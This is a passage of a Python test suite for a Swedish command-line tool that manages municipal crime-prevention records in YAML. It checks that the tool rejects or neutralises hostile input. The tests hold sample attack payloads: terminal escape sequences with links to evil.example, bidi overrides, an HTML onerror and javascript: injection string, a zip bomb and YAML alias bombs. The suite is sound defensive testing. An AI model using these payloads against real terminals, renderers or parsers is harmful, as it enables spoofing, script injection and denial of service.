    assert not [f for f in validate(load_repo(root)) if f.rule == "SCHEMA"]


CONTROL_ESCAPES = {
    "OSC 8 link": '"Klicka \\e]8;;https://evil.example\\e\\\\här\\e]8;;\\e\\\\"',
    "C1 CSI": '"R\\x9b31mÖD"',
    "bell": '"a\\ab"',
    "carriage return": '"synlig\\rdold"',
    "right-to-left override": '"Kommun\u202estyrelsen"',
    "bidi isolate": '"\u2066x\u2069"',
    "left-to-right mark": "Styrgrupp\u200e",
}


@pytest.mark.parametrize("name", list(CONTROL_ESCAPES))
def test_control_and_bidi_characters_in_loaded_text_are_findings(make_repo, cli, name) -> None:
    # Before: written as YAML escapes (or bidi raw) they passed validate and reached the
    # terminal (status, calendar) and every document.
    value = CONTROL_ESCAPES[name]
    root = make_repo({"funktioner/samordnare.yaml": f"titel: {value}\nnivå: x\n"})
    found = [f for f in validate(load_repo(root)) if f.rule == "YAML-STYRTECKEN"]
    assert [(f.file, f.line) for f in found] == [("funktioner/samordnare.yaml", 1)]
    for args in (["validate"], ["status", "--today", "2026-01-01"], ["render", "organisation"]):
        result = cli(*args, root)
        for bad in ("\x1b", "\x9b", "\x07", "\r", "\u202e", "\u2066", "\u200e"):
            assert bad not in result.output, (args, bad)


def test_calendar_and_the_validate_header_never_carry_control_characters(
    make_repo, cli, tmp_path: Path
) -> None:
    # Before: a meeting's plats with "\e]8;;…" reached the ICS printed to the terminal, and
    # `bfa validate PATH` printed PATH raw in its header.
    root = make_repo(
        {
            "moten/2026/2026-03-01-styrgrupp.yaml": "organ: styrgrupp\ndatum: 2026-03-01\n"
            'plats: "Rum \\e]8;;https://evil.example\\e\\\\1\\u202e"\n'
        }
    )
    result = cli("calendar", "--today", "2026-01-01", root)
    assert result.exit_code in (0, 1)
    assert "\x1b" not in result.output and "\u202e" not in result.output
    odd = tmp_path / "a\x1b]0;x\x07b"
    shutil.copytree(root, odd)
    result = cli("validate", odd)
    assert "\x1b" not in result.output and "\x07" not in result.output


def test_every_table_and_line_a_terminal_gets_shows_control_characters(make_repo, cli) -> None:
    # Before: `bfa status` printed a body's name raw (OSC 8 link, clear screen), because
    # only some call sites escaped; now the one console every command prints through does.
    root = make_repo(
        {
            "organ/styrgrupp.yaml": MINIMAL_STYRGRUPP.replace("okänd: x\n", "").replace(
                "namn: Styrgrupp", 'namn: "Styr\\e]8;;http://evil\\e\\\\grupp\\e[2J\\x9b"'
            )
        }
    )
    repo = git.Repo.init(root)
    repo.git.add(A=True)
    repo.git.commit("-qm", "första", "--author", "T <t@x>")
    for args in (
        ["status", "--today", "2026-01-01"],
        ["check", "--today", "2026-01-01"],
        ["minutes", "--since", "HEAD", "--until", "HEAD"],
    ):
        result = cli(*args, root)
        assert "Styr" in result.output or args[0] != "status", (args, result.output)
        for bad in ("\x1b", "\x9b", "\x07"):
            assert bad not in result.output, (args, bad)


def test_a_very_long_name_is_a_finding_not_a_typst_error(make_repo, cli) -> None:
    # Before: a 44 kB titel passed validate and broke the PDF with an English error
    # (or a Rust panic printed raw).
    root = make_repo({"funktioner/samordnare.yaml": "titel: " + "abcdefghij " * 4000 + "\n"})
    found = [f for f in validate(load_repo(root)) if f.file == "funktioner/samordnare.yaml"]
    assert any(f.rule == "SCHEMA" and "500 tecken" in f.message for f in found), found


# -- lost data: bfa set ---------------------------------------------------------------------


def test_concurrent_set_loses_no_change(make_repo) -> None:
    # Before: two bfa set at once both reported success and one change was gone (34/50).
    root = make_repo()
    for n in range(4):
        a = subprocess.Popen(
            [sys.executable, "-m", "brottsforeb", "set", "styrgrupp", "uppdrag", f"Uppdrag {n}"],
            cwd=root,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        b = subprocess.Popen(
            [sys.executable, "-m", "brottsforeb", "set", "styrgrupp", "mandat", f"Mandat {n}"],
            cwd=root,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        a.wait(120), b.wait(120)
        text = (root / "organ" / "styrgrupp.yaml").read_text(encoding="utf-8")
        if a.returncode == 0:
            assert f"Uppdrag {n}" in text
        if b.returncode == 0:
            assert f"Mandat {n}" in text
        assert {a.returncode, b.returncode} <= {0, 1}


def test_set_refuses_when_the_file_changed_meanwhile(make_repo, monkeypatch) -> None:
    import brottsforeb.rules as rules
    from brottsforeb.errors import ConflictError

    root = make_repo()
    path = root / "organ" / "styrgrupp.yaml"
    real = rules.validate

    def editor_saves(repo):  # type: ignore[no-untyped-def]
        path.write_text(path.read_text() + "anmärkning: sparad i redigeraren\n")
        monkeypatch.setattr(rules, "validate", real)
        return real(repo)

    monkeypatch.setattr(rules, "validate", editor_saves)
    from brottsforeb.edit import set_value

    with pytest.raises(ConflictError) as exc:
        set_value(root, "styrgrupp", "uppdrag", "Nytt")
    assert exc.value.exit_code == 1
    assert "sparad i redigeraren" in path.read_text() and "Nytt" not in path.read_text()


def test_set_waits_for_a_held_lock_then_gives_up(make_repo, monkeypatch) -> None:
    import brottsforeb._io as io_
    from brottsforeb.edit import set_value
    from brottsforeb.errors import ConflictError

    root = make_repo()
    monkeypatch.setattr(io_, "LOCK_WAIT_SECONDS", 0.2)
    path = (root / "organ" / "styrgrupp.yaml").resolve()
    with io_.file_lock(path), pytest.raises(ConflictError):
        set_value(root, "styrgrupp", "uppdrag", "Nytt")
    set_value(root, "styrgrupp", "uppdrag", "Nytt")
    assert not list(path.parent.glob(".*lock*"))


def test_set_keeps_crlf_line_endings(make_repo, cli) -> None:
    root = make_repo()
    path = root / "organ" / "styrgrupp.yaml"
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    assert cli("set", "styrgrupp", "uppdrag", "Nytt uppdrag", "-C", root).exit_code == 0
    assert cli("set", "styrgrupp", "anmärkning", "Ny nyckel", "-C", root).exit_code == 0
    data = path.read_bytes()
    assert b"Nytt uppdrag" in data and b"Ny nyckel" in data
    assert data.count(b"\n") == data.count(b"\r\n")


def test_set_edits_a_symlinked_file_in_place_of_its_target(make_repo, cli) -> None:
    root = make_repo()
    shared = root / "delat"
    shared.mkdir()
    (root / "organ" / "styrgrupp.yaml").rename(shared / "styrgrupp.yaml")
    (root / "organ" / "styrgrupp.yaml").symlink_to(Path("..") / "delat" / "styrgrupp.yaml")
    assert cli("set", "styrgrupp", "uppdrag", "Via länken", "-C", root).exit_code == 0
    assert (root / "organ" / "styrgrupp.yaml").is_symlink()
    assert "Via länken" in (shared / "styrgrupp.yaml").read_text(encoding="utf-8")


@pytest.mark.parametrize("sep", ["\u0085", "\u2028", "\u2029", "\n", "\r", "\x0b"])
def test_line_separators_in_one_line_values_are_refused(make_repo, cli, sep: str) -> None:
    # Before: U+0085 read back as a space, exit 0.
    root = make_repo()
    before = (root / "bfa.yaml").read_bytes()
    result = cli("set", "bfa", "namn", f"Testby{sep}kommun", "-C", root)
    assert result.exit_code == 1
    assert (root / "bfa.yaml").read_bytes() == before


# -- internal errors at the edges -----------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["check", "--today", "9999-12-31"],
        ["status", "--today", "9999-12-31"],
        ["calendar", "--today", "9999-12-31"],
        ["render", "uppfoljning", "--year", "0"],
        ["render", "uppfoljning", "--year", "-5"],
        ["render", "uppfoljning", "--year", "10000"],
        ["new", "mote", "styrgrupp", "--date", "0001-01-01"],
    ],
)
def test_dates_at_the_edges_on_the_command_line(make_repo, cli, args: list[str]) -> None:
    root = make_repo()
    result = cli(*args, root)
    assert result.exit_code == 2
    assert "internt fel" not in result.output
    assert not (root / "moten" / "0001").exists()


@pytest.mark.parametrize("where", ["dokument", "mote"])
def test_dates_at_the_edges_in_the_data(make_repo, cli, where: str) -> None:
    changes = (
        {
            "dokument/atgardsplan.yaml": MINIMAL["dokument/atgardsplan.yaml"].replace(
                "datum: 20", "datum: 9999-12-31 #"
            )
        }
        if where == "dokument"
        else {"moten/9999/9999-12-31-styrgrupp.yaml": "organ: styrgrupp\ndatum: 9999-12-31\n"}
    )
    root = make_repo(changes)
    for args in (
        ["check"],
        ["status"],
        ["calendar"],
        ["render", "uppfoljning"],
        ["render", "motesplan"],
    ):
        assert cli(*args, root).exit_code in (0, 1, 2)
    assert cli("validate", root).exit_code == 1


def test_set_to_an_impossible_date_is_a_finding_and_can_be_repaired(make_repo, cli) -> None:
    root = make_repo()
    result = cli("set", "belysning", "slut", "2026-02-30", "-C", root)
    assert result.exit_code == 1 and "finns inte" in result.output
    path = root / "atgarder" / "belysning.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("slut:", "slut: 2026-02-30 #", 1), encoding="utf-8")
    assert "2026-02-30" in path.read_text(encoding="utf-8")
    result = cli("set", "belysning", "slut", "2026-02-28", "-C", root)
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("value", ["inf", ".inf", "-.inf", ".nan", "nan", "1e400"])
def test_non_finite_measurements_are_findings(make_repo, value: str) -> None:
    text = MINIMAL["indikatorer/klotter.yaml"].replace("värde: 40", f"värde: {value}")
    root = make_repo({"indikatorer/klotter.yaml": text})
    found = [f for f in validate(load_repo(root)) if f.file == "indikatorer/klotter.yaml"]
    assert any(f.rule == "SCHEMA" for f in found), found
    for args in (["check"], ["status"], ["render", "uppfoljning"]):
        no_crash(bfa(*args, cwd=root))


def test_unwritable_output_is_a_swedish_error(make_repo, tmp_path: Path) -> None:
    root = make_repo()
    (tmp_path / "fil").write_text("x")
    for args in (
        ["render", "organisation", "-o", tmp_path / "fil" / "x.md"],
        ["render", "--all", "-o", tmp_path / "fil" / "mapp"],
        ["calendar", "-o", tmp_path / "fil" / "k.ics"],
    ):
        proc = bfa(*args, cwd=root)
        no_crash(proc)
        assert proc.returncode == 2 and "bfa: fel:" in proc.stderr


def _calendar(root: Path, target: Path | str, *extra: str, **kw):  # type: ignore[no-untyped-def]
    args = ["calendar", "--today", "2025-01-01", "-o", str(target), *extra]
    return subprocess.run(
        [sys.executable, "-m", "brottsforeb", *args],
        cwd=root,
        stdout=kw.pop("stdout", subprocess.PIPE),
        stderr=subprocess.PIPE,
        timeout=60,
        check=False,
    )


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
@pytest.mark.parametrize("force", [[], ["--force"]])
def test_output_to_a_fifo_is_written_in_place_never_replaced(make_repo, force) -> None:
    # Before: the marker check read the FIFO and hung; --force replaced it with a file.
    import threading

    root = make_repo()
    fifo = root.parent / "ror"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    proc = _calendar(root, fifo, *force)
    reader.join(timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert b"BEGIN:VCALENDAR" in got[0]
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_output_to_a_fifo_nobody_reads_is_refused(make_repo) -> None:
    root = make_repo()
    fifo = root.parent / "ror"
    os.mkfifo(fifo)
    proc = _calendar(root, fifo, "--force")
    assert proc.returncode == 2 and "ingen läser" in proc.stderr.decode()
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@pytest.mark.skipif(not Path("/proc/self/fd/1").exists(), reason="needs /proc/self/fd")
@pytest.mark.parametrize("force", [[], ["--force"]])
def test_output_to_stdout_through_a_link_writes_the_stream(make_repo, force) -> None:
    # Before: -o /dev/stdout hung (read for the marker); with --force, as root, the link
    # /dev/stdout was replaced by a regular file. Here a link of our own to fd 1.
    root = make_repo()
    link = root.parent / "stdout"
    link.symlink_to("/proc/self/fd/1")
    proc = _calendar(root, link, *force)
    assert proc.returncode == 0, proc.stderr
    assert b"BEGIN:VCALENDAR" in proc.stdout
    assert link.is_symlink() and os.readlink(link) == "/proc/self/fd/1"
    into_file = root.parent / "ut.ics"
    with into_file.open("wb") as out:  # `-o /dev/stdout > ut.ics`
        proc = _calendar(root, link, *force, stdout=out)
    assert proc.returncode == 0 and b"BEGIN:VCALENDAR" in into_file.read_bytes()
    assert link.is_symlink()


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX devices and links")
def test_output_to_devices_and_links(make_repo, tmp_path: Path) -> None:
    root = make_repo()
    null = tmp_path / "null"
    null.symlink_to(os.devnull)
    assert _calendar(root, null, "--force").returncode == 0
    assert null.is_symlink() and Path(os.devnull).is_char_device()
    target = tmp_path / "riktig.ics"
    target.write_bytes(b"inte bfa")
    link = tmp_path / "lank.ics"
    link.symlink_to(target)
    proc = _calendar(root, link)
    assert proc.returncode == 2 and target.read_bytes() == b"inte bfa"
    assert _calendar(root, link, "--force").returncode == 0
    assert link.is_symlink() and b"BEGIN:VCALENDAR" in target.read_bytes()
    dangling = tmp_path / "trasig.ics"
    dangling.symlink_to(tmp_path / "finns-inte" / "x.ics")
    proc = _calendar(root, dangling, "--force")
    assert proc.returncode == 2 and dangling.is_symlink()
    import socket

    sock_path = tmp_path / "s"
    with socket.socket(socket.AF_UNIX) as sock:
        here = os.getcwd()
        os.chdir(tmp_path)
        try:
            sock.bind("s")
        finally:
            os.chdir(here)
        proc = _calendar(root, sock_path, "--force")
    assert proc.returncode == 2 and stat.S_ISSOCK(os.lstat(sock_path).st_mode)


def test_word_template_linked_out_or_a_zip_bomb_is_refused(make_repo, cli, tmp_path) -> None:
    # Before: mallar/dokumentmall.docx linked out of the repository was used; a 1.2 MB zip
    # bomb took 1.1 GB and ended in an English message.
    import zipfile

    root = make_repo()
    (root / "mallar").mkdir()
    outside = tmp_path / "ute.docx"
    with zipfile.ZipFile(outside, "w") as zf:
        zf.writestr("word/document.xml", "<x/>")
    (root / "mallar" / "dokumentmall.docx").symlink_to(outside)
    result = cli("render", "organisation", "--format", "docx", "-o", tmp_path / "a.docx", root)
    assert result.exit_code == 2 and "utanför förrådet" in result.output
    (root / "mallar" / "dokumentmall.docx").unlink()
    with zipfile.ZipFile(root / "mallar" / "dokumentmall.docx", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("word/document.xml", b"\0" * 60_000_000)
    result = cli("render", "organisation", "--format", "docx", "-o", tmp_path / "b.docx", root)
    assert result.exit_code == 2 and "packas upp till mer än" in result.output
    assert not (tmp_path / "b.docx").exists()


def test_schema_output_does_not_overwrite_foreign_files(tmp_path: Path, cli) -> None:
    # Before: bfa schema -o MAPP replaced any file with a schema's name, without --force.
    out = tmp_path / "scheman"
    out.mkdir()
    (out / "bfa.schema.json").write_text('{"egen": true}\n')
    result = cli("schema", "-o", out)
    assert result.exit_code == 2 and "inte skriven av bfa" in result.output
    assert (out / "bfa.schema.json").read_text() == '{"egen": true}\n'
    assert cli("schema", "-o", out, "--force").exit_code == 0
    assert cli("schema", "-o", out).exit_code == 0  # bfa's own files are replaced freely


# -- silent acceptance ----------------------------------------------------------------------


def test_nothing_in_a_data_folder_is_ignored_silently(make_repo) -> None:
    root = make_repo()
    (root / "organ" / "sub").mkdir()
    (root / "organ" / "sub" / "x.yaml").write_text("namn: X\n")
    (root / "organ" / "x.YAML").write_text("namn: X\n")
    (root / "organ" / "mapp.yaml").mkdir()
    (root / "organ.yaml").write_text("namn: X\n")
    (root / "organ" / "slinga.yaml").symlink_to("slinga.yaml")
    found = {(f.file, f.rule) for f in validate(load_repo(root))}
    assert ("organ/sub/", "FIL-PLATS") in found
    assert ("organ/x.YAML", "FIL-ANDELSE") in found
    assert ("organ/mapp.yaml", "FIL-TYP") in found
    assert ("organ.yaml", "FIL-PLATS") in found
    assert ("organ/slinga.yaml", "FIL-LANK") in found


def test_silently_ignored_files(make_repo, tmp_path: Path) -> None:
    # Before: each of these was ignored without a word (one of x.yml/x.yaml silently won).
    root = make_repo()
    (root / "organ" / "styrgrupp.yml").write_text("namn: Vinnaren\ntyp: styrgrupp\n")
    (root / "organ" / ".nytt.yaml").write_text("namn: Dold\n")
    (root / "kommun.yaml").write_text("namn: X\n")
    (root / "Bfa.yml").write_text("namn: X\n")
    shutil.rmtree(root / "indikatorer")
    (root / "indikatorer").write_text("x\n")
    (root / "templates").mkdir()
    (root / "templates" / "riktlinje.md").write_text("# x\n")
    (root / "templates" / "riktlinj.md.j2").write_text("# x\n")
    (root / "templates" / "organisation.md.j2").write_text("# ok\n")
    (tmp_path / "ute.md.j2").write_text("# HEMLIGT\n")
    (root / "templates" / "atgardsplan.md.j2").symlink_to(tmp_path / "ute.md.j2")
    if hasattr(os, "mkfifo"):
        os.mkfifo(root / "templates" / "riktlinje.md.j2")
    repo = load_repo(root)
    found = {(f.file, f.rule) for f in validate(repo)}
    assert ("organ/styrgrupp.yml", "FIL-DUBBLETT") in found
    assert repo.organ["styrgrupp"].name == "Styrgrupp"  # the .yaml file is the one read
    assert ("organ/.nytt.yaml", "FIL-OKAND") in found
    assert ("kommun.yaml", "FIL-OKAND") in found
    assert ("Bfa.yml", "FIL-ANDELSE") in found
    assert ("indikatorer", "FIL-TYP") in found
    assert ("templates/riktlinje.md", "FIL-OKAND") in found
    assert ("templates/riktlinj.md.j2", "FIL-OKAND") in found
    assert ("templates/atgardsplan.md.j2", "FIL-LANK") in found
    assert not any(f == "templates/organisation.md.j2" for f, _ in found)
    if hasattr(os, "mkfifo"):
        assert ("templates/riktlinje.md.j2", "FIL-TYP") in found


@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="mode 000 is POSIX")
def test_unreadable_folder_is_a_finding(unprivileged) -> None:
    # Runs as an ordinary user even when the suite runs as root (then as nobody).
    folder, validate_as_user = unprivileged
    root = write_repo(folder / "repo", dict(MINIMAL))
    for path in [root, *root.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    (root / "organ").chmod(0)
    found = {(f.file, f.rule) for f in validate_as_user(root)}
    assert ("organ/", "FIL-LASFEL") in found


@pytest.mark.parametrize("name", ["con", "nul", "aux", "prn", "com1", "lpt1", "COM9"])
def test_windows_reserved_names_are_refused(make_repo, cli, name: str) -> None:
    root = make_repo({f"aktorer/{name}.yaml": "namn: X\ntyp: polis\n"})
    found = {(f.file, f.rule) for f in validate(load_repo(root))}
    assert (f"aktorer/{name}.yaml", "FIL-ID") in found
    result = cli("new", "organ", name, root)
    assert result.exit_code == 2 and "Windows" in result.output
    assert not (root / "organ" / f"{name.lower()}.yaml").exists()


def test_keys_are_nfc_and_invisible_characters_are_shown(make_repo) -> None:
    # Before: "Okänd nyckel 'ledamöter' → Menade du 'ledamöter'?" (NFD), and an NBSP or a
    # zero-width space in a key was invisible in the message.
    root = make_repo(
        {
            "organ/nfd.yaml": "namn: X\ntyp: arbetsgrupp\nuppdrag: x\n"
            "ledamo\u0308ter: [samordnare]\n",
            "organ/nbsp.yaml": "namn\u00a0: Nbsp\ntyp: arbetsgrupp\n",
            "organ/zw.yaml": "namn: Zw\ntyp\u200b: arbetsgrupp\n",
        }
    )
    findings = validate(load_repo(root))
    found = {f.file: f for f in findings if f.rule == "SCHEMA"}
    assert "organ/nfd.yaml" not in found or "ledam" not in found["organ/nfd.yaml"].message
    # the hidden character is named, and the key is read as it looks (A13, test_hidden_characters)
    hidden = {f.file: f.message for f in findings if f.rule == "YAML-OSYNLIGT"}
    assert "U+00A0 (hårt mellanslag) efter 'namn'" in hidden["organ/nbsp.yaml"]
    assert "U+200B (nollbreddsmellanslag) efter 'typ'" in hidden["organ/zw.yaml"]
    assert "organ/nbsp.yaml" not in found and "organ/zw.yaml" not in found


def test_merge_key_then_explicit_key() -> None:
    parsed = _yaml.parse("bas: &b {antal: 2, per: år}\nmöten:\n  <<: *b\n  antal: 4\n", "x")
    assert parsed.findings == []
    assert parsed.data["möten"] == {"antal": 4, "per": "år"}


def test_two_documents_and_utf16_in_swedish() -> None:
    parsed = _yaml.parse("namn: a\n---\nnamn: b\n", "x")
    assert parsed.findings[0].message == "Filen innehåller flera YAML-dokument (---)."
    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
        _text, problem = _yaml.decode("namn: Åtvidaberg\n".encode(encoding), "x")
        assert problem is not None and "UTF-16" in problem.message
        assert "1252" not in problem.message


# -- scalars (#12 item 6) -------------------------------------------------------------------


def test_number_like_text_is_kept_as_written(make_repo, cli) -> None:
    plan = textwrap.dedent(MINIMAL["dokument/atgardsplan.yaml"]).lstrip()
    root = make_repo(
        {
            "dokument/atgardsplan.yaml": plan.rstrip() + "\nparagraf: 142.10\n"
            "diarienummer: 2024.070\n"
        }
    )
    repo = load_repo(root)
    doc = repo.entries["dokument"]["atgardsplan"].model
    assert doc.paragraph == "142.10" and doc.record_number == "2024.070"
    result = cli("render", "atgardsplan", root)
    assert "142.10" in result.output


@pytest.mark.parametrize("value", ['""', "'   '", "' '"])
def test_empty_names_are_refused(make_repo, cli, value: str) -> None:
    root = make_repo()
    assert cli("set", "bfa", "namn", "", "-C", root).exit_code == 1
    path = root / "organ" / "styrgrupp.yaml"
    path.write_text(path.read_text().replace("namn: Styrgrupp", f"namn: {value}"))
    found = [f for f in validate(load_repo(root)) if f.file == "organ/styrgrupp.yaml"]
    assert any("tomt" in f.message for f in found)


def test_mermaid_comment_line_escapes_the_name() -> None:
    # Before: the indicator's name went raw into the '%% bfa-figur:' comment line, so a
    # newline and a code fence ended the Mermaid block (defence in depth: validate now
    # also refuses a newline in a name).
    from brottsforeb.model import KINDS
    from brottsforeb.render import _charts

    hostile = "Klotter\n```\n<img src=x onerror=alert(1)>\n[x](javascript:alert(1))"
    ind = KINDS["indikatorer"].model.model_construct(name=hostile, values=[], unit="st")
    chart = _charts.mermaid_xychart(ind)
    lines = chart.splitlines()
    assert len(lines) == 6 and lines[0].startswith("%% bfa-figur: indikator-")
    assert "`" not in chart and "<img" not in chart and "](" not in chart


def test_minutes_attribution_reads_history_through_the_bounded_reader(history) -> None:
    # An alias bomb or a deep file in one commit must not blow up minutes' per-commit
    # attribution, which compares each commit with its parent.
    root, repo = history
    path = root / "organ" / "styrgrupp.yaml"
    good = path.read_text(encoding="utf-8")
    bomb = "a: &a '" + "x" * 500_000 + "'\nb: [" + ", ".join(["*a"] * 2000) + "]\n"
    path.write_text(bomb, encoding="utf-8")
    commit(repo, "Bomb")
    path.write_text("namn: " + "[" * 50_000 + "]" * 50_000 + "\n", encoding="utf-8")
    commit(repo, "Djup")
    path.write_text(good.replace("Styrgrupp", "Styrgruppen"), encoding="utf-8")
    commit(repo, "Lagad")
    proc = bfa("minutes", "--since", "HEAD~3", cwd=root)
    no_crash(proc)
    assert len(proc.stdout) < 100_000


# -- the classes, fuzzed (BFA_PROPERTY_SCALE=N runs N times the examples, new each run) ----

_OPEN = {"[": "]", "{a: ": "}", "[{b: ": "}]"}


@settings(max_examples=examples(20), deadline=None)
@given(
    parts=st.lists(st.sampled_from(sorted(_OPEN)), min_size=1, max_size=4),
    depth=st.integers(min_value=1, max_value=100_000),
    block=st.integers(min_value=0, max_value=2_000),
    anchors=st.integers(min_value=0, max_value=3_000),
    size=st.integers(min_value=0, max_value=900_000),
)
def test_any_nesting_and_alias_shape_is_read_or_refused(
    parts: list[str], depth: int, block: int, anchors: int, size: int
) -> None:
    per = max(1, depth // len(parts))
    opening = "".join(p * per for p in parts)
    closing = "".join(_OPEN[p] * per for p in reversed(parts))
    text = (
        f"x: &x '{'y' * size}'\n"
        + "namn: "
        + opening
        + "1"
        + closing
        + "\nlista:\n"
        + "  " * 1
        + "- " * block
        + "z\n"
        + "alias: ["
        + ", ".join(["*x"] * anchors)
        + "]\n"
    )
    if len(text.encode()) > _yaml.MAX_FILE_BYTES:
        return  # FIL-STORLEK before parsing; covered elsewhere
    parsed = _yaml.parse(text, "organ/x.yaml")
    too_deep = depth // len(parts) * 1 > _yaml.MAX_DEPTH or block > _yaml.MAX_DEPTH
    if too_deep or anchors * size > _yaml.MAX_EXPANDED_CHARS:
        assert parsed.data is None and parsed.findings
        assert {f.rule for f in parsed.findings} <= {"YAML-STORLEK", "YAML-SYNTAX"}
